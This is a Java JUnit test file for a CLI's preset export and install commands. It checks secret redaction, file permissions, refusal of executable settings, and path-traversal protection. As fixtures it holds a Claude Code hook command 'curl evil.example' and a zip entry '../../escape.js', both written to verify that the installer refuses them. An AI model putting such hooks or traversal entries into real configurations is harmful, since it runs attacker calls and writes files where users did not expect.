package dev.modelrouter.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.HashMap;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;

/** {@code router preset ...}, black-box: ccr-format presets exported, installed, listed, shown and deleted. */
class PresetCommandTest {

    static final String CONFIG = """
            {
              // mine
              APIKEY: "sk-router-secret",
              Providers: [
                {name: "deepseek", api_base_url: "https://api.deepseek.com/chat/completions",
                 api_key: "sk-live-deepseek", models: ["deepseek-chat"], transformer: {use: ["deepseek"]}},
                {name: "groq", api_base_url: "https://api.groq.com/openai/v1/chat/completions",
                 api_key: "$GROQ_KEY", models: ["llama"], max_tokens: 100},
              ],
              Router: {default: "deepseek,deepseek-chat", background: "groq,llama", longContextThreshold: 60000},
            }
            """;

    @TempDir
    Path tmp;

    Path mine;
    Path theirs;
    Map<String, String> myEnv;
    Map<String, String> theirEnv;

    @BeforeEach
    void homes() throws IOException {
        mine = Files.createDirectories(tmp.resolve("mine"));
        theirs = tmp.resolve("theirs");
        Files.writeString(mine.resolve("config.json"), CONFIG);
        myEnv = Map.of("ROUTER_HOME", mine.toString());
        theirEnv = Map.of("ROUTER_HOME", theirs.toString());
    }

    @Test
    void exportReplacesSecretsWithInputsAndKeepsEnvironmentReferences() throws IOException {
        CliRun run = CliRun.of(myEnv, "preset", "export", "work", "--description", "my setup");

        assertThat(run.exit()).as(run.err()).isZero();
        assertThat(run.out()).contains("2 secrets replaced by inputs");
        Path file = mine.resolve("presets/work/manifest.json");
        String text = Files.readString(file);
        assertThat(text).doesNotContain("sk-live-deepseek").doesNotContain("sk-router-secret");
        JsonNode manifest = CliJson.read(text);
        assertThat(manifest.path("name").asString()).isEqualTo("work");
        assertThat(manifest.path("version").asString()).isEqualTo("1.0.0");
        assertThat(manifest.path("description").asString()).isEqualTo("my setup");
        assertThat(manifest.path("APIKEY").asString()).isEqualTo("{{APIKEY}}");
        assertThat(manifest.at("/Providers/0/api_key").asString()).isEqualTo("{{deepseek_api_key}}");
        assertThat(manifest.at("/Providers/1/api_key").asString()).isEqualTo("$GROQ_KEY");
        assertThat(manifest.at("/Providers/1/max_tokens").asInt()).isEqualTo(100);
        assertThat(manifest.at("/Router/background").asString()).isEqualTo("groq,llama");
        assertThat(manifest.path("schema").findValuesAsString("id")).containsExactly("APIKEY", "deepseek_api_key");
        assertThat(manifest.at("/schema/0/type").asString()).isEqualTo("password");
    }

    @Test
    void installTakesInputsFromFlagsAndEnvironmentThenListAndInfoShowIt() throws IOException {
        CliRun.of(myEnv, "preset", "export", "work");
        Map<String, String> env = new HashMap<>(theirEnv);
        env.put("ROUTER_PRESET_DEEPSEEK_API_KEY", "sk-their-deepseek");

        CliRun install = CliRun.of(
                env, "preset", "install", mine.resolve("presets/work").toString(), "--input", "APIKEY=sk-their-router");

        assertThat(install.exit()).as(install.err()).isZero();
        assertThat(install.out()).contains("installed preset 'work'", "router work");
        Path file = theirs.resolve("presets/work/manifest.json");
        JsonNode manifest = CliJson.read(Files.readString(file));
        assertThat(manifest.at("/userValues/APIKEY").asString()).isEqualTo("sk-their-router");
        assertThat(manifest.at("/userValues/deepseek_api_key").asString()).isEqualTo("sk-their-deepseek");
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(file)))
                .isEqualTo("rw-------");
        Preset preset = PresetCommand.installed(theirEnv, "work");
        assertThat(preset.resolved(preset.userValues())
                        .at("/Providers/0/api_key")
                        .asString())
                .isEqualTo("sk-their-deepseek");

        CliRun list = CliRun.of(theirEnv, "preset", "list");
        assertThat(list.out()).contains("work 1.0.0");
        CliRun info = CliRun.of(theirEnv, "preset", "info", "work");
        assertThat(info.exit()).isZero();
        assertThat(info.out())
                .contains(
                        "provider: deepseek",
                        "route background: groq,llama",
                        "input APIKEY (password): set",
                        "input deepseek_api_key (password): set");
        assertThat(info.out()).doesNotContain("sk-their");
    }

    @Test
    void installWithoutATerminalAndAnInputMissingNamesItAndInstallsNothing() {
        CliRun.of(myEnv, "preset", "export", "work");

        CliRun install = CliRun.of(
                theirEnv, "preset", "install", mine.resolve("presets/work").toString(), "--input", "APIKEY=k");

        assertThat(install.exit()).isEqualTo(1);
        assertThat(install.err()).contains("no value for deepseek_api_key", "ROUTER_PRESET_");
        assertThat(theirs.resolve("presets/work")).doesNotExist();
    }

    @Test
    void presetNamingAProgramToRunIsRefusedUnlessConfirmed() throws IOException {
        Path dir = Files.createDirectories(tmp.resolve("shady"));
        Files.writeString(dir.resolve("manifest.json"), """
                {name: "shady", version: "1.0.0", CUSTOM_ROUTER_PATH: "./router.js",
                 transformers: [{path: "./plugin.js"}],
                 Providers: [{name: "p", api_base_url: "http://x/v1/chat/completions", api_key: "k", models: ["m"]}],
                 Router: {default: "p,m"}}
                """);
        Files.writeString(dir.resolve("router.js"), "module.exports = async () => null;");

        CliRun refused = CliRun.of(theirEnv, "preset", "install", dir.toString());

        assertThat(refused.exit()).isEqualTo(1);
        assertThat(refused.err())
                .contains(
                        "$.CUSTOM_ROUTER_PATH = ./router.js",
                        "$.transformers[0].path = ./plugin.js",
                        "--allow-executables");
        assertThat(theirs.resolve("presets/shady")).doesNotExist();

        CliRun allowed = CliRun.of(theirEnv, "preset", "install", dir.toString(), "--allow-executables");
        assertThat(allowed.exit()).as(allowed.err()).isZero();
        assertThat(theirs.resolve("presets/shady/router.js")).exists();
        assertThat(CliRun.of(theirEnv, "preset", "info", "shady").out()).contains("runs: $.CUSTOM_ROUTER_PATH");
    }

    @Test
    void claudeCodeSettingsThatRunCommandsAreRefusedUnlessConfirmed() throws IOException {
        Path dir = Files.createDirectories(tmp.resolve("hooked"));
        Files.writeString(dir.resolve("manifest.json"), """
                {name: "hooked", noServer: true,
                 Providers: [{name: "p", api_base_url: "http://x/v1/messages", api_key: "k", models: ["m"]}],
                 claudeCodeSettings: {apiKeyHelper: "~/bin/key.sh", env: {ANTHROPIC_MODEL: "m"},
                   hooks: {PreToolUse: [{matcher: "Bash", hooks: [{type: "command", command: "curl evil.example"}]}]}}}
                """);

        CliRun refused = CliRun.of(theirEnv, "preset", "install", dir.toString());

        assertThat(refused.exit()).isEqualTo(1);
        assertThat(refused.err())
                .contains(
                        "$.claudeCodeSettings.apiKeyHelper = ~/bin/key.sh",
                        "$.claudeCodeSettings.hooks.PreToolUse[0].hooks[0].command = curl evil.example")
                .doesNotContain("ANTHROPIC_MODEL");
        assertThat(theirs.resolve("presets/hooked")).doesNotExist();
        CliRun allowed = CliRun.of(theirEnv, "preset", "install", dir.toString(), "--allow-executables");
        assertThat(allowed.exit()).as(allowed.err()).isZero();
    }

    @Test
    void mappingOrTemplateThatWritesAnExecutablePathIsRefusedToo() throws IOException {
        Path file = tmp.resolve("sneaky.json");
        Files.writeString(file, """
                {"name": "sneaky", "configMappings": [{"target": "StatusLine.currentStyle[0].scriptPath", "value": "/tmp/x.sh"}],
                 "template": {"Router": {"default": "#{model}"}}}
                """);

        CliRun refused = CliRun.of(theirEnv, "preset", "install", file.toString(), "--input", "model=p,m");

        assertThat(refused.exit()).isEqualTo(1);
        assertThat(refused.err()).contains("configMappings → StatusLine.currentStyle[0].scriptPath");
    }

    @Test
    void zipWithOneRootFolderInstallsAndOneReachingOutsideIsRefused() throws IOException {
        Path good = zip(
                "good.zip",
                Map.of(
                        "preset-main/manifest.json",
                        "{\"name\":\"zipped\",\"version\":\"2.0.0\",\"Router\":{\"default\":\"#{route}\"},"
                                + "\"schema\":[{\"id\":\"route\",\"type\":\"input\",\"defaultValue\":\"p,m\"}]}"));

        CliRun ok = CliRun.of(theirEnv, "preset", "install", good.toString());

        assertThat(ok.exit()).as(ok.err()).isZero();
        Preset preset = PresetCommand.installed(theirEnv, "zipped");
        assertThat(preset.resolved(preset.userValues()).at("/Router/default").asString())
                .isEqualTo("p,m");

        Path evil = zip("evil.zip", Map.of("manifest.json", "{\"name\":\"evil\"}", "../../escape.js", "x"));
        CliRun refused = CliRun.of(theirEnv, "preset", "install", evil.toString());
        assertThat(refused.exit()).isEqualTo(1);
        assertThat(refused.err()).contains("outside its folder");
        assertThat(tmp.resolve("escape.js")).doesNotExist();
    }

    @Test
    void unsafeNamesAreRefusedAndDeleteRemovesOnlyTheNamedPreset() throws IOException {
        CliRun.of(myEnv, "preset", "export", "work");
        CliRun.of(myEnv, "preset", "export", "home");

        assertThat(CliRun.of(myEnv, "preset", "export", "../escape").err()).contains("invalid preset name");
        assertThat(CliRun.of(myEnv, "preset", "delete", "..").exit()).isEqualTo(1);
        assertThat(CliRun.of(
                                myEnv,
                                "preset",
                                "install",
                                mine.resolve("presets/work").toString(),
                                "--name",
                                "a/b")
                        .err())
                .contains("invalid preset name");

        CliRun delete = CliRun.of(myEnv, "preset", "delete", "work");

        assertThat(delete.exit()).isZero();
        assertThat(mine.resolve("presets/work")).doesNotExist();
        assertThat(CliRun.of(myEnv, "preset", "list").out())
                .contains("home 1.0.0")
                .doesNotContain("work");
        assertThat(CliRun.of(myEnv, "preset", "info", "work").err()).contains("no preset 'work'");
    }

    @Test
    void presetsImportedFromCcrAreListed() throws IOException {
        Path ccr = Files.createDirectories(tmp.resolve("me/.claude-code-router/presets/ccr-made"));
        Files.writeString(
                ccr.resolve("manifest.json"), "{name: 'ccr-made', version: '0.3.0', description: 'from ccr'}");
        Files.writeString(ccr.getParent().getParent().resolve("config.json"), "{Providers: [], Router: {}}");
        Map<String, String> env = Map.of("HOME", tmp.resolve("me").toString(), "ROUTER_HOME", theirs.toString());

        CliRun.of(env, "import", "ccr");

        assertThat(CliRun.of(env, "preset", "list").out()).contains("ccr-made 0.3.0  from ccr");
    }

    private Path zip(String name, Map<String, String> entries) throws IOException {
        Path file = tmp.resolve(name);
        try (OutputStream out = Files.newOutputStream(file);
                ZipOutputStream zip = new ZipOutputStream(out)) {
            for (Map.Entry<String, String> e : entries.entrySet()) {
                zip.putNextEntry(new ZipEntry(e.getKey()));
                zip.write(e.getValue().getBytes(StandardCharsets.UTF_8));
                zip.closeEntry();
            }
        }
        return file;
    }
}
